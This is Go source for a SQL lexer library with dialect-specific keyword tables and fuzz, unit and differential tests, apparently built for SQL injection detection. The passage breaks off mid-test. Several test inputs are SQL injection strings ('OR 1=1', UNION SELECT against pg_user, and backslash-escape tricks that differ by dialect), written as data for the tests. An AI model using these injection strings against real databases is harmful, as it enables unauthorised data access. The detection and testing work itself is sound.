	// during seeding (the testbed's `username()` probe). It stays in the
	// MySQL delta only, so the default dialect keeps classifying existing
	// corpora byte-identically while Postgres and SQLite no longer
	// inherit it.
	"USERNAME",
))

// Postgres deltas.
var postgresKeywords = mergeWords(baseKeywords, wordSet(
	"ANALYZE", "CONCURRENTLY", "CONFLICT", "DO", "ILIKE", "LATERAL",
	"ONLY", "RETURNING", "VACUUM",
))

var postgresFunctions = mergeWords(baseFunctions, wordSet(
	"AGE", "ARRAY_AGG", "ARRAY_TO_STRING", "BTRIM", "CHR",
	"CURRENT_SETTING", "DBLINK", "DBLINK_CONNECT", "DECODE", "ENCODE",
	"FORMAT", "GENERATE_SERIES", "INITCAP", "LO_EXPORT", "LO_IMPORT",
	"MD5", "OVERLAY", "PG_BACKEND_PID", "PG_DATABASE_SIZE", "PG_LS_DIR",
	"PG_READ_FILE", "PG_SLEEP", "QUOTE_IDENT", "QUOTE_LITERAL",
	"QUERY_TO_XML", "RANDOM", "REGEXP_MATCHES", "REGEXP_REPLACE",
	"SET_CONFIG", "SPLIT_PART", "STRING_AGG", "STRPOS", "TO_CHAR",
	"TO_NUMBER", "TO_TIMESTAMP", "TRANSLATE",
))

// SQLite deltas.
var sqliteKeywords = mergeWords(baseKeywords, wordSet(
	"ATTACH", "AUTOINCREMENT", "DETACH", "GLOB", "MATCH", "PRAGMA",
	"REGEXP", "REINDEX", "VACUUM", "WITHOUT",
))

var sqliteFunctions = mergeWords(baseFunctions, wordSet(
	"CHANGES", "GLOB", "GROUP_CONCAT", "HEX", "IIF", "IFNULL", "INSTR",
	"JSON", "JSON_EXTRACT", "LAST_INSERT_ROWID", "LIKELIHOOD", "LIKELY",
	"LOAD_EXTENSION", "PRINTF", "QUOTE", "RANDOM", "RANDOMBLOB",
	"SQLITE_SOURCE_ID", "SQLITE_VERSION", "TOTAL", "TOTAL_CHANGES",
	"TYPEOF", "UNICODE", "UNLIKELY", "ZEROBLOB",
))

func wordSet(words ...string) map[string]bool {
	m := make(map[string]bool, len(words))
	for _, w := range words {
		m[w] = true
	}
	return m
}

func mergeWords(sets ...map[string]bool) map[string]bool {
	n := 0
	for _, s := range sets {
		n += len(s)
	}
	m := make(map[string]bool, n)
	for _, s := range sets {
		for w := range s {
			m[w] = true
		}
	}
	return m
}
