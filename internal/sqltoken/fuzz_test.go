package sqltoken

import (
	"reflect"
	"testing"
)

// FuzzLexDialects drives arbitrary bytes through every dialect and checks
// the lexer's structural contract: it never panics, every token's span
// reproduces its text, spans are ordered and exactly tile the input (the
// only bytes outside tokens are whitespace), and re-lexing is
// deterministic. The CI fuzz-smoke job runs this for 30s per push; the
// seeds below cover every dialect-sensitive construct.
func FuzzLexDialects(f *testing.F) {
	seeds := []string{
		"",
		"SELECT * FROM records WHERE ID=1 LIMIT 5",
		"SELECT * FROM t WHERE name = '" + `\' UNION SELECT usename FROM pg_user -- ` + "'",
		"$$a'b$$ UNION $tag$x$tag$",
		"$1 $23 $name ?3 :name @name @@sys",
		`"quoted""ident" E'\n' e'x'`,
		"/* a /* b */ c */ # hash -- tail",
		"a::text || b::int[2:3]",
		"0x1F 2.5E-3 .5 'open",
		"`tick` $unclosed$ body",
		"\x00\xff'\\",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, q string) {
		for _, d := range Dialects() {
			toks := d.Lex(q)
			prevEnd := 0
			for i, tok := range toks {
				if tok.Start < prevEnd || tok.End > len(q) || tok.Start >= tok.End {
					t.Fatalf("%s: token %d has bad span %d:%d (prev end %d, len %d)",
						d, i, tok.Start, tok.End, prevEnd, len(q))
				}
				if q[tok.Start:tok.End] != tok.Text {
					t.Fatalf("%s: token %d text %q != span bytes %q",
						d, i, tok.Text, q[tok.Start:tok.End])
				}
				for j := prevEnd; j < tok.Start; j++ {
					if !isSpaceByte(q[j]) {
						t.Fatalf("%s: non-whitespace byte %q at %d fell between tokens", d, q[j], j)
					}
				}
				prevEnd = tok.End
			}
			for j := prevEnd; j < len(q); j++ {
				if !isSpaceByte(q[j]) {
					t.Fatalf("%s: non-whitespace byte %q at %d after last token", d, q[j], j)
				}
			}
			if again := d.Lex(q); !reflect.DeepEqual(toks, again) {
				t.Fatalf("%s: re-lex is not deterministic", d)
			}
		}
	})
}
