package sqltoken

import (
	"strings"
	"testing"
	"testing/quick"
)

func kinds(toks []Token) []Kind {
	out := make([]Kind, len(toks))
	for i, t := range toks {
		out[i] = t.Kind
	}
	return out
}

func texts(toks []Token) []string {
	out := make([]string, len(toks))
	for i, t := range toks {
		out[i] = t.Text
	}
	return out
}

func TestLexSimpleSelect(t *testing.T) {
	toks := Lex("SELECT * FROM records WHERE ID=1 LIMIT 5")
	want := []struct {
		kind Kind
		text string
	}{
		{KindKeyword, "SELECT"},
		{KindOperator, "*"},
		{KindKeyword, "FROM"},
		{KindIdent, "records"},
		{KindKeyword, "WHERE"},
		{KindIdent, "ID"},
		{KindOperator, "="},
		{KindNumber, "1"},
		{KindKeyword, "LIMIT"},
		{KindNumber, "5"},
	}
	if len(toks) != len(want) {
		t.Fatalf("got %d tokens %v, want %d", len(toks), texts(toks), len(want))
	}
	for i, w := range want {
		if toks[i].Kind != w.kind || toks[i].Text != w.text {
			t.Errorf("token %d: got (%v, %q), want (%v, %q)",
				i, toks[i].Kind, toks[i].Text, w.kind, w.text)
		}
	}
}

func TestLexOffsetsReconstructQuery(t *testing.T) {
	queries := []string{
		"SELECT * FROM t WHERE a = 'x' AND b=2",
		"INSERT INTO t (a,b) VALUES ('1','2')",
		"SELECT 1 /* comment */ -- tail\nFROM dual",
		"SELECT `col` FROM `tab` WHERE x LIKE '%y%'",
	}
	for _, q := range queries {
		for _, tok := range Lex(q) {
			if tok.Start < 0 || tok.End > len(q) || tok.Start >= tok.End {
				t.Fatalf("query %q: bad span %d:%d", q, tok.Start, tok.End)
			}
			if q[tok.Start:tok.End] != tok.Text {
				t.Errorf("query %q: span %d:%d is %q, token text %q",
					q, tok.Start, tok.End, q[tok.Start:tok.End], tok.Text)
			}
		}
	}
}

func TestLexStrings(t *testing.T) {
	tests := []struct {
		in           string
		wantText     string
		unterminated bool
	}{
		{`'hello'`, `'hello'`, false},
		{`'it''s'`, `'it''s'`, false},
		{`'a\'b'`, `'a\'b'`, false},
		{`"double"`, `"double"`, false},
		{`'open`, `'open`, true},
		{`"also open`, `"also open`, true},
	}
	for _, tt := range tests {
		toks := Lex(tt.in)
		if len(toks) != 1 {
			t.Fatalf("Lex(%q): got %d tokens %v", tt.in, len(toks), texts(toks))
		}
		got := toks[0]
		if got.Kind != KindString || got.Text != tt.wantText || got.Unterminated != tt.unterminated {
			t.Errorf("Lex(%q) = {%v %q unterminated=%v}, want {string %q unterminated=%v}",
				tt.in, got.Kind, got.Text, got.Unterminated, tt.wantText, tt.unterminated)
		}
	}
}

func TestLexComments(t *testing.T) {
	tests := []struct {
		in       string
		kind     Kind
		wantText string
	}{
		{"/* block */", KindComment, "/* block */"},
		{"/* open", KindComment, "/* open"},
		{"# hash comment", KindComment, "# hash comment"},
		{"-- dash comment", KindComment, "-- dash comment"},
	}
	for _, tt := range tests {
		toks := Lex(tt.in)
		if len(toks) != 1 || toks[0].Kind != tt.kind || toks[0].Text != tt.wantText {
			t.Errorf("Lex(%q) = %v %v, want one %v %q", tt.in, kinds(toks), texts(toks), tt.kind, tt.wantText)
		}
	}
	// "--1" is not a comment; it is two minus operators and a number.
	toks := Lex("--1")
	if len(toks) != 3 || toks[0].Kind != KindOperator || toks[2].Kind != KindNumber {
		t.Errorf("Lex(--1) = %v %v, want operator,operator,number", kinds(toks), texts(toks))
	}
}

func TestLexNumbers(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"42", "42"},
		{"3.14", "3.14"},
		{".5", ".5"},
		{"0x1F", "0x1F"},
		{"1e10", "1e10"},
		{"2.5E-3", "2.5E-3"},
	}
	for _, tt := range tests {
		toks := Lex(tt.in)
		if len(toks) != 1 || toks[0].Kind != KindNumber || toks[0].Text != tt.want {
			t.Errorf("Lex(%q) = %v %v, want one number %q", tt.in, kinds(toks), texts(toks), tt.want)
		}
	}
}

func TestLexFunctions(t *testing.T) {
	toks := Lex("SELECT CHAR(65), username(), version ()")
	var funcs []string
	for _, tok := range toks {
		if tok.Kind == KindFunction {
			funcs = append(funcs, tok.Text)
		}
	}
	want := []string{"CHAR", "username", "version"}
	if len(funcs) != len(want) {
		t.Fatalf("function tokens = %v, want %v", funcs, want)
	}
	for i := range want {
		if funcs[i] != want[i] {
			t.Errorf("function %d = %q, want %q", i, funcs[i], want[i])
		}
	}
	// An identifier named like a function but not called is an ident.
	toks = Lex("SELECT version FROM t")
	if toks[1].Kind != KindIdent {
		t.Errorf("bare 'version' lexed as %v, want ident", toks[1].Kind)
	}
}

func TestLexPlaceholdersAndVariables(t *testing.T) {
	toks := Lex("SELECT ? , :name, @uservar, @@global_var")
	var got []Kind
	for _, tok := range toks {
		if tok.Kind == KindPlaceholder || tok.Kind == KindVariable {
			got = append(got, tok.Kind)
		}
	}
	want := []Kind{KindPlaceholder, KindPlaceholder, KindVariable, KindVariable}
	if len(got) != len(want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("placeholder/variable %d = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestLexOperators(t *testing.T) {
	toks := Lex("a<=b >= c <> d != e || f && g := h << i >> j")
	var ops []string
	for _, tok := range toks {
		if tok.Kind == KindOperator {
			ops = append(ops, tok.Text)
		}
	}
	want := []string{"<=", ">=", "<>", "!=", "||", "&&", ":=", "<<", ">>"}
	if len(ops) != len(want) {
		t.Fatalf("operators = %v, want %v", ops, want)
	}
	for i := range want {
		if ops[i] != want[i] {
			t.Errorf("operator %d = %q, want %q", i, ops[i], want[i])
		}
	}
}

func TestCriticalClassification(t *testing.T) {
	toks := Lex("SELECT name FROM users WHERE id = -1 OR 1=1 /*x*/")
	critical := map[string]bool{}
	for _, tok := range toks {
		if tok.Critical() {
			critical[tok.Text] = true
		}
	}
	for _, want := range []string{"SELECT", "FROM", "WHERE", "=", "OR", "-", "/*x*/"} {
		if !critical[want] {
			t.Errorf("%q not classified critical; critical set: %v", want, critical)
		}
	}
	for _, data := range []string{"name", "users", "id", "1"} {
		if critical[data] {
			t.Errorf("%q wrongly classified critical", data)
		}
	}
}

func TestBacktickIdent(t *testing.T) {
	toks := Lex("SELECT `weird name` FROM t")
	if toks[1].Kind != KindBacktick || toks[1].Text != "`weird name`" {
		t.Errorf("backtick token = %v %q", toks[1].Kind, toks[1].Text)
	}
	if toks[1].Critical() {
		t.Error("backtick identifier must not be critical")
	}
}

func TestContainsSQLToken(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"SELECT * FROM records WHERE ID=", true},
		{" LIMIT 5", true},
		{"OR", true},
		{"=", true},
		{"plainword", false},
		{"", false},
		{"hello world", false},
		{"id", false},
		{"''", true},
		{"#", true},
	}
	for _, tt := range tests {
		if got := ContainsSQLToken(tt.in); got != tt.want {
			t.Errorf("ContainsSQLToken(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

func TestCoversWholeToken(t *testing.T) {
	q := "SELECT id FROM t WHERE id=-1 OR 1=1"
	toks := Lex(q)
	orStart := strings.Index(q, "OR")
	// Span covering "-1 OR 1=1" covers whole tokens.
	if !CoversWholeToken(toks, strings.Index(q, "-1"), len(q)) {
		t.Error("span over '-1 OR 1=1' should cover a whole token")
	}
	// Span covering only half of "OR" does not.
	if CoversWholeToken(toks, orStart+1, orStart+2) {
		t.Error("span over half of OR should not cover a whole token")
	}
}

func TestSpanOps(t *testing.T) {
	a := Span{Start: 2, End: 10}
	if !a.Contains(Span{Start: 3, End: 9}) || !a.Contains(a) {
		t.Error("Contains failed for contained spans")
	}
	if a.Contains(Span{Start: 1, End: 5}) || a.Contains(Span{Start: 9, End: 11}) {
		t.Error("Contains succeeded for non-contained spans")
	}
	if !a.Overlaps(Span{Start: 9, End: 20}) || a.Overlaps(Span{Start: 10, End: 12}) {
		t.Error("Overlaps boundary conditions wrong")
	}
	if a.Len() != 8 {
		t.Errorf("Len = %d, want 8", a.Len())
	}
}

func TestLexNeverPanicsAndSpansAreOrdered(t *testing.T) {
	f := func(s string) bool {
		toks := Lex(s)
		prevEnd := 0
		for _, tok := range toks {
			if tok.Start < prevEnd || tok.End > len(s) || tok.Start >= tok.End {
				return false
			}
			if s[tok.Start:tok.End] != tok.Text {
				return false
			}
			prevEnd = tok.End
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestLexCaseInsensitiveKeywords(t *testing.T) {
	for _, q := range []string{"select", "SeLeCt", "SELECT", "union", "UnIoN"} {
		toks := Lex(q)
		if len(toks) != 1 || toks[0].Kind != KindKeyword {
			t.Errorf("Lex(%q) = %v, want keyword", q, kinds(toks))
		}
	}
}

func TestKindString(t *testing.T) {
	if KindKeyword.String() != "keyword" || Kind(999).String() != "unknown" {
		t.Error("Kind.String mismatch")
	}
}

func TestCriticalTokens(t *testing.T) {
	toks := Lex("SELECT a FROM b WHERE c=1")
	crit := CriticalTokens(toks)
	if len(crit) != 4 { // SELECT FROM WHERE =
		t.Fatalf("CriticalTokens = %v, want 4 tokens", texts(crit))
	}
}
