package sqltoken

import (
	"reflect"
	"strings"
	"testing"
)

// seedKeywords and seedFunctions are verbatim copies of the single shared
// tables the lexer shipped with before the per-dialect split. The MySQL
// dialect must keep recognizing exactly this vocabulary — not one word
// more or less — so every historical corpus classifies byte-identically.
var seedKeywords = []string{
	"ADD", "ALL", "ALTER", "AND", "AS", "ASC", "BEGIN", "BETWEEN", "BY",
	"CASE", "COLLATE", "COLUMN", "COMMIT", "CREATE", "CROSS", "DATABASE",
	"DEFAULT", "DELETE", "DESC", "DISTINCT", "DROP", "ELSE", "END",
	"ESCAPE", "EXISTS", "FALSE", "FROM", "FULL", "GROUP", "HAVING", "IF",
	"IN", "INDEX", "INNER", "INSERT", "INTO", "IS", "JOIN", "KEY", "LEFT",
	"LIKE", "LIMIT", "NOT", "NULL", "OFFSET", "ON", "OR", "ORDER", "OUTER",
	"PRIMARY", "PROCEDURE", "REGEXP", "RIGHT", "ROLLBACK", "SELECT", "SET",
	"TABLE", "THEN", "TRUE", "TRUNCATE", "UNION", "UNIQUE", "UPDATE",
	"VALUES", "WHEN", "WHERE", "XOR", "DIV", "MOD", "RLIKE", "SOUNDS",
	"BINARY", "USING", "NATURAL", "INTERVAL", "PARTITION", "EXEC",
	"EXECUTE", "PREPARE", "DEALLOCATE", "GRANT", "REVOKE", "REPLACE",
	"LOAD", "OUTFILE", "DUMPFILE", "INFILE", "HANDLER", "CAST", "CONVERT",
}

var seedFunctions = []string{
	"ABS", "ASCII", "AVG", "BENCHMARK", "BIN", "CEIL", "CEILING", "CHAR",
	"CHAR_LENGTH", "CHARACTER_LENGTH", "COALESCE", "CONCAT", "CONCAT_WS",
	"CONNECTION_ID", "COUNT", "CURDATE", "CURRENT_DATE", "CURRENT_TIME",
	"CURRENT_TIMESTAMP", "CURRENT_USER", "CURTIME", "DATABASE", "DATE",
	"DATE_ADD", "DATE_FORMAT", "DATE_SUB", "DAY", "ELT", "EXP", "EXTRACT",
	"EXTRACTVALUE", "FIELD", "FIND_IN_SET", "FLOOR", "FORMAT", "FOUND_ROWS",
	"GREATEST", "GROUP_CONCAT", "HEX", "HOUR", "IF", "IFNULL", "INSTR",
	"LAST_INSERT_ID", "LCASE", "LEAST", "LEFT", "LENGTH", "LOAD_FILE",
	"LOCATE", "LOWER", "LPAD", "LTRIM", "MAKE_SET", "MAX", "MD5", "MID",
	"MIN", "MINUTE", "MONTH", "NOW", "NULLIF", "OCT", "ORD", "PASSWORD",
	"PI", "POSITION", "POW", "POWER", "QUOTE", "RAND", "REPEAT", "REPLACE",
	"REVERSE", "RIGHT", "ROUND", "ROW_COUNT", "RPAD", "RTRIM", "SCHEMA",
	"SECOND", "SESSION_USER", "SHA", "SHA1", "SHA2", "SIGN", "SLEEP",
	"SPACE", "SQRT", "STRCMP", "SUBSTR", "SUBSTRING", "SUBSTRING_INDEX",
	"SUM", "SYSDATE", "SYSTEM_USER", "TRIM", "TRUNCATE", "UCASE", "UNHEX",
	"UNIX_TIMESTAMP", "UPDATEXML", "UPPER", "USER", "USERNAME", "UUID",
	"VERSION", "WEEK", "YEAR",
}

func TestMySQLVocabularyMatchesSeed(t *testing.T) {
	check := func(label string, got map[string]bool, want []string) {
		t.Helper()
		wantSet := make(map[string]bool, len(want))
		for _, w := range want {
			wantSet[w] = true
			if !got[w] {
				t.Errorf("%s: seed word %q missing from MySQL table", label, w)
			}
		}
		for w := range got {
			if !wantSet[w] {
				t.Errorf("%s: MySQL table gained %q, not in the seed table", label, w)
			}
		}
	}
	check("keywords", mysqlKeywords, seedKeywords)
	check("functions", mysqlFunctions, seedFunctions)
}

func TestSharedBaseHasNoSeedingLeaks(t *testing.T) {
	// USERNAME is no dialect's function; it must survive only in the
	// MySQL delta (seed compatibility) and nowhere else.
	if baseFunctions["USERNAME"] {
		t.Error("USERNAME leaked into the shared base function table")
	}
	if !MySQL.IsBuiltinFunction("username") {
		t.Error("MySQL must keep USERNAME for seed compatibility")
	}
	for _, d := range []Dialect{Postgres, SQLite} {
		if d.IsBuiltinFunction("username") {
			t.Errorf("%s inherited the USERNAME seeding leak", d)
		}
	}
	// Every shared word must be visible through every dialect.
	for w := range baseKeywords {
		for _, d := range Dialects() {
			if !d.IsKeyword(w) {
				t.Errorf("base keyword %q missing from %s", w, d)
			}
		}
	}
	for w := range baseFunctions {
		for _, d := range Dialects() {
			if !d.spec().functions[w] {
				t.Errorf("base function %q missing from %s", w, d)
			}
		}
	}
}

// TestCastOperatorRegression pins the `::` fix. The seed lexer produced
// [ident "a"] [invalid ":"] [placeholder ":text"] for `a::text` — the
// second colon started a named placeholder, so a Postgres cast smuggled a
// fake placeholder token into every analyzer. `::` is now one cast
// operator in every dialect.
func TestCastOperatorRegression(t *testing.T) {
	for _, d := range Dialects() {
		toks := d.Lex("a::text")
		want := []struct {
			kind Kind
			text string
		}{
			{KindIdent, "a"},
			{KindOperator, "::"},
			{KindIdent, "text"},
		}
		if len(toks) != len(want) {
			t.Fatalf("%s: Lex(a::text) = %v %v, want 3 tokens", d, kinds(toks), texts(toks))
		}
		for i, w := range want {
			if toks[i].Kind != w.kind || toks[i].Text != w.text {
				t.Errorf("%s: token %d = (%v, %q), want (%v, %q)",
					d, i, toks[i].Kind, toks[i].Text, w.kind, w.text)
			}
		}
		// The seed bug must stay dead: no placeholder token anywhere.
		for _, tok := range toks {
			if tok.Kind == KindPlaceholder || tok.Kind == KindInvalid {
				t.Errorf("%s: seed mis-lex resurfaced: %v %q", d, tok.Kind, tok.Text)
			}
		}
	}
}

// TestDollarPlaceholderByDialect pins that `$1` stays an identifier in
// MySQL ('$' is an ident-start byte there — unchanged seed behavior) while
// Postgres and SQLite lex it as a placeholder.
func TestDollarPlaceholderByDialect(t *testing.T) {
	q := "SELECT * FROM t WHERE id = $1"
	last := func(d Dialect) Token {
		toks := d.Lex(q)
		return toks[len(toks)-1]
	}
	if tok := last(MySQL); tok.Kind != KindIdent || tok.Text != "$1" {
		t.Errorf("MySQL: $1 = (%v, %q), want (ident, $1) — seed behavior must not change", tok.Kind, tok.Text)
	}
	for _, d := range []Dialect{Postgres, SQLite} {
		if tok := last(d); tok.Kind != KindPlaceholder || tok.Text != "$1" {
			t.Errorf("%s: $1 = (%v, %q), want (placeholder, $1)", d, tok.Kind, tok.Text)
		}
	}
	// Multi-digit and mid-query forms.
	toks := Postgres.Lex("INSERT INTO t (a, b) VALUES ($1, $23)")
	var ph []string
	for _, tok := range toks {
		if tok.Kind == KindPlaceholder {
			ph = append(ph, tok.Text)
		}
	}
	if !reflect.DeepEqual(ph, []string{"$1", "$23"}) {
		t.Errorf("postgres placeholders = %v, want [$1 $23]", ph)
	}
}

func TestDollarQuotingPostgres(t *testing.T) {
	tests := []struct {
		in           string
		wantText     string
		unterminated bool
	}{
		{"$$a'b$$", "$$a'b$$", false},
		{"$tag$ x $nottag$ y $tag$", "$tag$ x $nottag$ y $tag$", false},
		{"$$abc", "$$abc", true},
		{"$q$it's -- fine /* here */$q$", "$q$it's -- fine /* here */$q$", false},
	}
	for _, tt := range tests {
		toks := Postgres.Lex(tt.in)
		if len(toks) != 1 || toks[0].Kind != KindString ||
			toks[0].Text != tt.wantText || toks[0].Unterminated != tt.unterminated {
			t.Errorf("postgres Lex(%q) = %v %v, want one string %q (unterminated=%v)",
				tt.in, kinds(toks), texts(toks), tt.wantText, tt.unterminated)
		}
	}
	// Under MySQL the same bytes are identifiers and a live string — the
	// boundary mis-draw the dialect-evasion testbed row builds on.
	toks := MySQL.Lex("$$a'b$$")
	if len(toks) != 2 || toks[0].Kind != KindIdent || toks[1].Kind != KindString || !toks[1].Unterminated {
		t.Errorf("mysql Lex($$a'b$$) = %v %v, want [ident $$][unterminated string]", kinds(toks), texts(toks))
	}
}

func TestDoubleQuoteByDialect(t *testing.T) {
	// MySQL: a string. Postgres/SQLite: a quoted identifier.
	toks := MySQL.Lex(`"x"`)
	if len(toks) != 1 || toks[0].Kind != KindString {
		t.Errorf(`mysql Lex("x") = %v, want one string`, kinds(toks))
	}
	for _, d := range []Dialect{Postgres, SQLite} {
		toks := d.Lex(`"x"`)
		if len(toks) != 1 || toks[0].Kind != KindBacktick {
			t.Errorf(`%s Lex("x") = %v %v, want one quoted ident`, d, kinds(toks), texts(toks))
		}
		// Doubled delimiter escapes inside the identifier.
		toks = d.Lex(`"a""b"`)
		if len(toks) != 1 || toks[0].Kind != KindBacktick || toks[0].Text != `"a""b"` {
			t.Errorf(`%s Lex("a""b") = %v %v, want one quoted ident`, d, kinds(toks), texts(toks))
		}
	}
}

func TestHashByDialect(t *testing.T) {
	toks := MySQL.Lex("1 # tail")
	if len(toks) != 2 || toks[1].Kind != KindComment {
		t.Errorf("mysql Lex(1 # tail) = %v %v, want number+comment", kinds(toks), texts(toks))
	}
	toks = Postgres.Lex("1 # 2")
	if len(toks) != 3 || toks[1].Kind != KindOperator || toks[1].Text != "#" {
		t.Errorf("postgres Lex(1 # 2) = %v %v, want number,operator,number", kinds(toks), texts(toks))
	}
	toks = SQLite.Lex("1 # 2")
	if len(toks) != 3 || toks[1].Kind != KindInvalid {
		t.Errorf("sqlite Lex(1 # 2) = %v %v, want number,invalid,number", kinds(toks), texts(toks))
	}
}

func TestBackslashEscapeByDialect(t *testing.T) {
	// MySQL: \' stays inside the literal — one string token.
	q := `'a\' UNION SELECT 1 -- '`
	toks := MySQL.Lex(q)
	if len(toks) != 1 || toks[0].Kind != KindString {
		t.Errorf("mysql Lex(%q) = %v %v, want one string", q, kinds(toks), texts(toks))
	}
	// Postgres (standard_conforming_strings=on) and SQLite: the backslash
	// is a plain byte, the quote closes, and UNION SELECT goes live.
	for _, d := range []Dialect{Postgres, SQLite} {
		toks := d.Lex(q)
		if len(toks) < 3 || toks[0].Text != `'a\'` || toks[1].Kind != KindKeyword || toks[1].Text != "UNION" {
			t.Errorf("%s Lex(%q) = %v %v, want string then live UNION", d, q, kinds(toks), texts(toks))
		}
	}
	// Postgres E-strings re-enable backslash escapes, prefix included.
	toks = Postgres.Lex(`E'a\'b'`)
	if len(toks) != 1 || toks[0].Kind != KindString || toks[0].Text != `E'a\'b'` {
		t.Errorf(`postgres Lex(E'a\'b') = %v %v, want one string`, kinds(toks), texts(toks))
	}
	// In MySQL the E is just an identifier.
	toks = MySQL.Lex(`E'ab'`)
	if len(toks) != 2 || toks[0].Kind != KindIdent || toks[1].Kind != KindString {
		t.Errorf(`mysql Lex(E'ab') = %v %v, want ident+string`, kinds(toks), texts(toks))
	}
}

func TestNestedBlockCommentByDialect(t *testing.T) {
	q := "/* a /* b */ c */"
	toks := Postgres.Lex(q)
	if len(toks) != 1 || toks[0].Kind != KindComment || toks[0].Text != q {
		t.Errorf("postgres Lex(%q) = %v %v, want one comment", q, kinds(toks), texts(toks))
	}
	toks = MySQL.Lex(q)
	if len(toks) != 4 || toks[0].Text != "/* a /* b */" {
		t.Errorf("mysql Lex(%q) = %v %v, want comment ending at first */", q, kinds(toks), texts(toks))
	}
	// An unbalanced nested comment is unterminated, not an infinite loop.
	toks = Postgres.Lex("/* a /* b */")
	if len(toks) != 1 || !toks[0].Unterminated {
		t.Errorf("postgres Lex(/* a /* b */) = %v, want one unterminated comment", kinds(toks))
	}
}

func TestDashDashByDialect(t *testing.T) {
	// MySQL needs whitespace after -- (pinned in TestLexComments);
	// Postgres and SQLite do not.
	for _, d := range []Dialect{Postgres, SQLite} {
		toks := d.Lex("--1")
		if len(toks) != 1 || toks[0].Kind != KindComment {
			t.Errorf("%s Lex(--1) = %v %v, want one comment", d, kinds(toks), texts(toks))
		}
	}
}

func TestQuestionByDialect(t *testing.T) {
	for _, d := range []Dialect{MySQL, SQLite} {
		toks := d.Lex("id = ?")
		if last := toks[len(toks)-1]; last.Kind != KindPlaceholder {
			t.Errorf("%s: ? = %v, want placeholder", d, last.Kind)
		}
	}
	toks := Postgres.Lex("meta ? 'key'")
	if toks[1].Kind != KindOperator || toks[1].Text != "?" {
		t.Errorf("postgres: ? = (%v, %q), want jsonb operator", toks[1].Kind, toks[1].Text)
	}
	// SQLite numbered form ?3 is one token; MySQL splits it.
	toks = SQLite.Lex("?3")
	if len(toks) != 1 || toks[0].Kind != KindPlaceholder || toks[0].Text != "?3" {
		t.Errorf("sqlite Lex(?3) = %v %v, want one placeholder", kinds(toks), texts(toks))
	}
	toks = MySQL.Lex("?3")
	if len(toks) != 2 || toks[0].Kind != KindPlaceholder || toks[1].Kind != KindNumber {
		t.Errorf("mysql Lex(?3) = %v %v, want placeholder+number", kinds(toks), texts(toks))
	}
}

func TestSQLiteNamedPlaceholders(t *testing.T) {
	toks := SQLite.Lex("SELECT :name, @name, $name, ?2")
	var ph []string
	for _, tok := range toks {
		if tok.Kind == KindPlaceholder {
			ph = append(ph, tok.Text)
		}
	}
	want := []string{":name", "@name", "$name", "?2"}
	if !reflect.DeepEqual(ph, want) {
		t.Errorf("sqlite placeholders = %v, want %v", ph, want)
	}
}

func TestPostgresColonAndAtOperators(t *testing.T) {
	toks := Postgres.Lex("arr[1:2]")
	var colon bool
	for _, tok := range toks {
		if tok.Text == ":" && tok.Kind == KindOperator {
			colon = true
		}
		if tok.Kind == KindPlaceholder {
			t.Errorf("postgres mis-lexed %q as placeholder in array slice", tok.Text)
		}
	}
	if !colon {
		t.Error("postgres: bare ':' should lex as an operator")
	}
	toks = Postgres.Lex("@ -5")
	if toks[0].Kind != KindOperator || toks[0].Text != "@" {
		t.Errorf("postgres: @ = (%v, %q), want operator", toks[0].Kind, toks[0].Text)
	}
}

func TestParseDialect(t *testing.T) {
	cases := map[string]Dialect{
		"mysql": MySQL, "mariadb": MySQL,
		"postgres": Postgres, "postgresql": Postgres, "pg": Postgres,
		"sqlite": SQLite, "sqlite3": SQLite,
	}
	for in, want := range cases {
		got, err := ParseDialect(in)
		if err != nil || got != want {
			t.Errorf("ParseDialect(%q) = %v, %v; want %v", in, got, err, want)
		}
	}
	for _, bad := range []string{"", "oracle", "MYSQL "} {
		if _, err := ParseDialect(bad); err == nil {
			t.Errorf("ParseDialect(%q) succeeded, want error", bad)
		}
	}
	for _, d := range Dialects() {
		rt, err := ParseDialect(d.String())
		if err != nil || rt != d {
			t.Errorf("round trip %v -> %q -> %v, %v", d, d.String(), rt, err)
		}
		if !d.Valid() {
			t.Errorf("%v reported invalid", d)
		}
	}
	if Dialect(99).Valid() {
		t.Error("Dialect(99) reported valid")
	}
	if !strings.Contains(Dialect(99).String(), "99") {
		t.Errorf("Dialect(99).String() = %q", Dialect(99).String())
	}
	// A corrupt dialect value must still lex (clamped to MySQL), because
	// Lex is contractually total.
	if got := Dialect(99).Lex("SELECT 1"); !reflect.DeepEqual(got, MySQL.Lex("SELECT 1")) {
		t.Error("corrupt dialect did not clamp to MySQL lexing")
	}
}

// agreeCorpus holds queries on which all three dialects must produce
// identical token streams: the common SQL core with no dialect-sensitive
// bytes.
var agreeCorpus = []string{
	"SELECT * FROM records WHERE ID=1 LIMIT 5",
	"SELECT id, name FROM users WHERE age >= 21 ORDER BY name DESC",
	"INSERT INTO t (a, b) VALUES (1, 'two')",
	"UPDATE t SET a = a + 1 WHERE b IN (1, 2, 3)",
	"DELETE FROM logs WHERE ts < 100 AND level = 'debug'",
	"SELECT COUNT(*) FROM posts GROUP BY author HAVING COUNT(*) > 2",
	"SELECT a FROM t1 UNION ALL SELECT b FROM t2",
	"SELECT 'it''s' /* block */ -- tail\nFROM dual",
	"SELECT CAST(a AS CHAR) FROM t WHERE x BETWEEN 1 AND 2",
	"SELECT x::int FROM t",
}

// differCorpus holds inputs whose token streams MUST differ between MySQL
// and Postgres — each is one of the dialect-boundary bytes the tentpole
// exists for.
var differCorpus = []string{
	"1 # 2",             // comment vs operator
	`'a\' OR 1=1 -- '`,  // backslash escape vs plain byte
	"$$ UNION $$",       // identifiers vs dollar-quoted string
	`"x"`,               // string vs quoted identifier
	"id = $1",           // identifier vs placeholder
	"/* a /* b */ c */", // flat vs nested block comment
}

func TestDialectDifferentialCorpus(t *testing.T) {
	for _, q := range agreeCorpus {
		ref := MySQL.Lex(q)
		for _, d := range []Dialect{Postgres, SQLite} {
			if got := d.Lex(q); !reflect.DeepEqual(got, ref) {
				t.Errorf("dialects disagree on common-core query %q:\n  mysql: %v %v\n  %s: %v %v",
					q, kinds(ref), texts(ref), d, kinds(got), texts(got))
			}
		}
	}
	for _, q := range differCorpus {
